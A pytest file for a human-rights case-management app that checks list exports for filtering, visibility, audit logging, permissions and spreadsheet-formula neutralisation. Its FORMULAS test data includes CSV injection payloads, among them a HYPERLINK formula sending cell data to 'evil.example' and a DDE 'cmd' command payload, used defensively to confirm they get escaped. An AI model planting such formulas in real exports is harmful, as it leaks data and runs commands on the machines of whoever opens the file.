"""Exports of lists: the requester's view only, with links, without personal details, audited."""
from __future__ import annotations

import csv
import io

from openpyxl import load_workbook
from sqlalchemy import select

from core.audit.models import AuditEntry
from core.extensions import db

from .conftest import login, post_form
from .records_helpers import add_defender, add_partner


def _download(client, response):
    assert response.status_code == 302, response.get_data(as_text=True)[:300]
    page = client.get(response.location).get_data(as_text=True)
    url = page.split('id="job-download" href="')[1].split('"')[0]
    return client.get(url)


def test_csv_export_follows_filters_and_visibility_with_links(app, make_user):
    officer = make_user("case_officer")
    add_defender(app, "Aylin Kaya", address="12 Secret Street")
    add_defender(app, "Chen Wei", country="CHN")
    add_defender(app, "Hidden Person", confidentiality="restricted")
    client = app.test_client()
    login(client, officer)
    response = _download(client, post_form(client, "/defenders/export", {"format": "csv", "region": "",
                                                                         "sort": "name"}))
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    assert [row["name"] for row in rows] == ["Aylin Kaya", "Chen Wei"]
    assert rows[0]["link"].startswith("http://127.0.0.1:5000/defenders/")
    assert "12 Secret Street" not in response.get_data(as_text=True)
    filtered = _download(client, post_form(client, "/defenders/export", {"format": "csv", "country": "CHN"}))
    assert "Aylin" not in filtered.get_data(as_text=True) and "Chen Wei" in filtered.get_data(as_text=True)
    with app.app_context():
        entries = db.session.scalars(select(AuditEntry).where(AuditEntry.action == "export")).all()
        assert [(e.user_id, e.record_type, e.changes["rows"]) for e in entries] == [
            (officer.id, "defender", 2), (officer.id, "defender", 1)]


def test_xlsx_export_of_partners(app, make_user):
    add_partner(app, "Kenya Human Rights Network", network="Pan-African Network")
    client = app.test_client()
    login(client, make_user("coordinator"))
    response = _download(client, post_form(client, "/partners/export", {"format": "xlsx"}))
    sheet = load_workbook(io.BytesIO(response.data)).active
    values = list(sheet.values)
    assert values[0][:3] == ("id", "name", "acronym")
    assert values[1][1] == "Kenya Human Rights Network" and values[1][-1].startswith("http://")


def test_export_needs_the_permission_and_a_known_format(app, make_user):
    reader, officer = app.test_client(), app.test_client()
    login(reader, make_user("readonly"))
    login(officer, make_user("case_officer"))
    assert post_form(reader, "/defenders/export", {"format": "csv"}).status_code == 403
    assert "Export (CSV)" not in reader.get("/defenders/").get_data(as_text=True)
    assert post_form(officer, "/defenders/export", {"format": "exe"}).status_code == 400


FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\tTab",
            "\rReturn")


def test_the_one_spreadsheet_writer_neutralises_formula_like_cells(app):
    from core.disclosure import Guard, spreadsheets

    guard = Guard(None, external=False, unattended=True)
    context = app.app_context()
    context.push()

    assert [spreadsheets.safe_cell(value) for value in FORMULAS] == ["'" + value for value in FORMULAS]
    assert spreadsheets.safe_cell("Aylin = lawyer") == "Aylin = lawyer" and spreadsheets.safe_cell(None) == ""
    rows = list(csv.reader(io.StringIO(spreadsheets.write_csv(["name"], [[v] for v in FORMULAS], guard).decode("utf-8-sig"),
                           newline="")))
    assert [row[0] for row in rows[1:]] == ["'" + value for value in FORMULAS]
    book = load_workbook(io.BytesIO(spreadsheets.write_xlsx("s", ["name", "n"], [[v, 3] for v in FORMULAS], guard)))
    cells = [row for row in book.active.iter_rows(min_row=2)]
    assert all(name.data_type == "s" and name.value.startswith("'") for name, _n in cells)
    assert all(n.data_type == "s" and n.value == "3" for _name, n in cells)  # text, never a formula or number
    context.pop()


def _cells_of(response, fmt: str) -> list[str]:
    if fmt == "csv":
        return [cell for row in csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff")))
                for cell in row]
    return [cell.value for row in load_workbook(io.BytesIO(response.data)).active.iter_rows() for cell in row]


def test_every_export_neutralises_formula_like_cells(app, make_user):
    """Defenders, partners, cases, users, the audit trail and a chart's data, in CSV and XLSX."""
    from plugins.interventions.models import Case

    from .plugins.interventions.helpers import add_case

    admin = make_user("admin", name=FORMULAS[3])
    add_defender(app, FORMULAS[0])
    add_partner(app, FORMULAS[1], acronym=FORMULAS[2])
    add_case(app, admin, title=FORMULAS[0])
    client = app.test_client()
    login(client, admin)
    exports = [("/defenders/export", FORMULAS[0]), ("/partners/export", FORMULAS[1]),
               ("/partners/export", FORMULAS[2]), ("/interventions/export", FORMULAS[0])]
    for fmt in ("csv", "xlsx"):
        for path, value in exports:
            cells = _cells_of(_download(client, post_form(client, path, {"format": fmt})), fmt)
            assert "'" + value in cells and value not in cells, (path, fmt)
    users = _cells_of(_download(client, post_form(client, "/admin/users/export")), "csv")
    assert "'" + FORMULAS[3] in users and FORMULAS[3] not in users
    audit = _cells_of(client.get("/admin/audit/export.csv"), "csv")
    assert "'" + FORMULAS[0] in audit and FORMULAS[0] not in audit
    with app.app_context():
        assert db.session.query(Case).count() == 1


def test_chart_data_is_written_by_the_same_writer(app):
    from core.disclosure import Guard
    from core.plugin_host.contributions import Chart
    from core.publications import statistics

    with app.app_context():
        data = statistics.as_csv(Chart("k", "Title", (FORMULAS[0], "Plain"), (2, 3)), "Category", "Count",
                                 Guard(None, external=False, unattended=True))
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows == [["Category", "Count"], ["'" + FORMULAS[0], "2"], ["Plain", "3"]]
